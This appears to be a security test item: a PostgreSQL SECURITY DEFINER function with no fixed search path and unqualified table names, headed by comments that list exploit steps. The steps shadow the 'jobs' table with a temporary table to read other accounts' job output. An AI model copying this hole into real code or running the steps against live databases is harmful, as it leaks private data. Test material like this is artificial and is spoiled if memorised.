-- The function loses its fixed search path and its schema names: a temporary table takes the place of jobs.
-- about: job_log, runs
-- as: hf_scheduler_app
-- exploit: SET sched.account = 'elm';
-- exploit: CREATE TEMP TABLE jobs (account text, job text);
-- exploit: INSERT INTO jobs VALUES ('elm', 'backup');
-- exploit: GRANT SELECT ON jobs TO PUBLIC;
-- exploit: SET search_path = sched;
-- exploit: SELECT * FROM sched.job_log('backup');
-- shows: out-secret
CREATE FUNCTION sched.job_log(p_job text) RETURNS TABLE (run_no int, output text)
LANGUAGE plpgsql STABLE SECURITY DEFINER AS $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM jobs j WHERE j.account = sched.me() AND j.job = p_job) THEN
    RAISE EXCEPTION 'no such job';
  END IF;
  -- Names of jobs were unique everywhere when this was written.
  RETURN QUERY SELECT r.run_no, r.output FROM runs r WHERE r.job = p_job;
END $$;
